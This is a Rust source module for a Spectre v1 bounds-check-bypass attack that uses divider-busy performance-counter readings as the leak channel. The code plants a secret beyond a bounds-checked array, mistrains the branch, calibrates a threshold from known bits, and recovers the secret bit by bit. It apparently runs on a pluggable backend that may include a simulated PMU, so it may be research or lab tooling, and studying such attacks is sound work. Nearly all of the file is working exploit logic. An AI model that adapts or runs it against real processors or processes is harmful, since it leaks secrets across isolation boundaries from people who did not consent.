//! Bounds-check bypass with a divider-busy counter as the disclosure
//! gadget: the transient path divides only when the selected secret bit is
//! set.

use serde::{Deserialize, Serialize};

use crate::backend::Backend;
use crate::counterleak::{CounterLeak, CounterSelector, DEFAULT_RETRIES};
use crate::error::{Error, Result};
use crate::harness::{
    mistrain_inplace, BranchSite, MicroEvent, VictimContext, DEFAULT_MISTRAIN_ROUNDS,
};
use crate::stats::{mad, median_i64, MAD_TO_SIGMA};

pub const DIVIDER_EVENT: &str = "CYCLES_DIV_BUSY.ALL";
/// Divider-busy cycles one gadget division reports to a simulated PMU.
pub const DIVISION_BUSY_CYCLES: u64 = 20;
pub const DEFAULT_SAMPLES_PER_BIT: usize = 50;
pub const DEFAULT_CALIBRATION_SAMPLES: usize = 100;
/// Bytes leaked per counter read; deltas stay far below 2^15.
pub const COUNTER_BYTES: usize = 2;

const GADGET_SITE: BranchSite = 0x5bec;
/// In-bounds array bytes with known bits, used for training and calibration.
const KNOWN_ZERO_INDEX: usize = 0;
const KNOWN_ONE_INDEX: usize = 1;
const ARRAY_SIZE: usize = 16;

/// A bounds-checked array with secret bytes right behind it.
#[derive(Debug, Clone)]
pub struct SpectreGadget {
    data: Vec<u8>,
    array_size: usize,
}

impl SpectreGadget {
    /// A 16-byte array starting `0x00, 0xFF` followed by `secret`.
    pub fn with_secret(secret: &[u8]) -> Self {
        let mut data = vec![0u8; ARRAY_SIZE];
        data[KNOWN_ONE_INDEX] = 0xFF;
        data.extend_from_slice(secret);
        Self {
            data,
            array_size: ARRAY_SIZE,
        }
    }

    pub fn array_size(&self) -> usize {
        self.array_size
    }

    pub fn secret_len(&self) -> usize {
        self.data.len() - self.array_size
    }

    /// Out-of-bounds index and bit offset of secret bit `bit` (LSB first).
    pub fn secret_position(&self, bit: usize) -> (usize, u32) {
        (self.array_size + bit / 8, (bit % 8) as u32)
    }

    /// Bit `offset` of `array[index]` when `index` is in bounds.
    pub fn architectural_bit(&self, index: usize, offset: u32) -> Option<bool> {
        (index < self.array_size).then(|| (self.data[index] >> offset) & 1 == 1)
    }

    /// `if (index < array_size) { if (array[index] >> offset & 1) divide; }`
    #[inline(never)]
    pub fn call(&self, ctx: &mut dyn VictimContext, index: usize, offset: u32) {
        let data = &self.data;
        ctx.guarded(GADGET_SITE, index < self.array_size, &mut |ctx| {
            if let Some(&byte) = data.get(index) {
                if (byte >> offset) & 1 == 1 {
                    let q = std::hint::black_box(0x1234_5678_9abc_u64)
                        / std::hint::black_box(0x1234_u64);
                    std::hint::black_box(q);
                    ctx.retire(MicroEvent::DividerBusy, DIVISION_BUSY_CYCLES);
                }
            }
        });
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct SpectreParams {
    pub samples_per_bit: usize,
    pub calibration_samples: usize,
    pub mistrain_rounds: usize,
}

impl Default for SpectreParams {
    fn default() -> Self {
        Self {
            samples_per_bit: DEFAULT_SAMPLES_PER_BIT,
            calibration_samples: DEFAULT_CALIBRATION_SAMPLES,
            mistrain_rounds: DEFAULT_MISTRAIN_ROUNDS,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct SpectreCalibration {
    pub zero_median: f64,
    pub one_median: f64,
    pub threshold: f64,
    /// Robust per-sample noise estimate.
    pub sigma: f64,
}

/// Counter delta around one victim call, after mistraining the bounds check.
pub fn measure<B: Backend>(
    leak: &mut CounterLeak<'_, B>,
    gadget: &SpectreGadget,
    index: usize,
    offset: u32,
    mistrain_rounds: usize,
) -> Result<i64> {
    mistrain_inplace(leak.backend().victim(), mistrain_rounds, |ctx| {
        gadget.call(ctx, KNOWN_ZERO_INDEX, offset)
    })?;
    leak.leak_delta(|ctx| gadget.call(ctx, index, offset))
}

/// Deltas for known-0 and known-1 bits; the threshold is the midpoint of
/// their medians. Fails when the medians of `samples_per_bit` samples could
/// not be told apart.
pub fn calibrate<B: Backend>(
    leak: &mut CounterLeak<'_, B>,
    gadget: &SpectreGadget,
    params: &SpectreParams,
) -> Result<SpectreCalibration> {
    if params.calibration_samples == 0 || params.samples_per_bit == 0 {
        return Err(Error::InvalidArgument(
            "sample counts must be positive".into(),
        ));
    }
    let mut zeros = Vec::with_capacity(params.calibration_samples);
    let mut ones = Vec::with_capacity(params.calibration_samples);
    for _ in 0..params.calibration_samples {
        zeros.push(measure(
            leak,
            gadget,
            KNOWN_ZERO_INDEX,
            0,
            params.mistrain_rounds,
        )?);
        ones.push(measure(
            leak,
            gadget,
            KNOWN_ONE_INDEX,
            0,
            params.mistrain_rounds,
        )?);
    }
    let zero_median = median_i64(&zeros).expect("nonempty");
    let one_median = median_i64(&ones).expect("nonempty");
    let centered: Vec<f64> = zeros
        .iter()
        .map(|&d| d as f64 - zero_median)
        .chain(ones.iter().map(|&d| d as f64 - one_median))
        .collect();
    let sigma = (mad(&centered).expect("nonempty") * MAD_TO_SIGMA).max(0.5);
    // Standard error of a sample median is about 1.2533 sigma / sqrt(n).
    let median_se = 1.2533 * sigma / (params.samples_per_bit as f64).sqrt();
    if one_median - zero_median <= 3.0 * median_se {
        return Err(Error::NoSignal {
            zero_median,
            one_median,
        });
    }
    Ok(SpectreCalibration {
        zero_median,
        one_median,
        threshold: (zero_median + one_median) / 2.0,
        sigma,
    })
}

/// Median of `samples_per_bit` deltas against the calibrated threshold.
pub fn leak_bit<B: Backend>(
    leak: &mut CounterLeak<'_, B>,
    gadget: &SpectreGadget,
    calibration: &SpectreCalibration,
    index: usize,
    offset: u32,
    params: &SpectreParams,
) -> Result<bool> {
    let deltas = (0..params.samples_per_bit)
        .map(|_| measure(leak, gadget, index, offset, params.mistrain_rounds))
        .collect::<Result<Vec<_>>>()?;
    Ok(median_i64(&deltas).expect("nonempty") > calibration.threshold)
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SpectreResult {
    pub recovered: Vec<u8>,
    pub bits: usize,
    /// Fraction of bits matching the planted secret.
    pub accuracy: f64,
    pub calibration: SpectreCalibration,
    pub elapsed_cycles: u64,
}

/// Plant `secret` behind the gadget array and leak it bit by bit.
pub fn run<B: Backend>(
    backend: &mut B,
    selector: CounterSelector,
    secret: &[u8],
    params: &SpectreParams,
) -> Result<SpectreResult> {
    let gadget = SpectreGadget::with_secret(secret);
    let mut leak = CounterLeak::new(backend, selector, COUNTER_BYTES, DEFAULT_RETRIES)?;
    let start = leak.backend().cycles();
    let calibration = calibrate(&mut leak, &gadget, params)?;
    let mut recovered = vec![0u8; secret.len()];
    for bit in 0..secret.len() * 8 {
        let (index, offset) = gadget.secret_position(bit);
        if leak_bit(&mut leak, &gadget, &calibration, index, offset, params)? {
            recovered[bit / 8] |= 1 << (bit % 8);
        }
    }
    let elapsed_cycles = leak.backend().cycles().saturating_sub(start);
    let bits = secret.len() * 8;
    let wrong: u32 = secret
        .iter()
        .zip(&recovered)
        .map(|(a, b)| (a ^ b).count_ones())
        .sum();
    Ok(SpectreResult {
        recovered,
        bits,
        accuracy: if bits == 0 {
            1.0
        } else {
            1.0 - wrong as f64 / bits as f64
        },
        calibration,
        elapsed_cycles,
    })
}
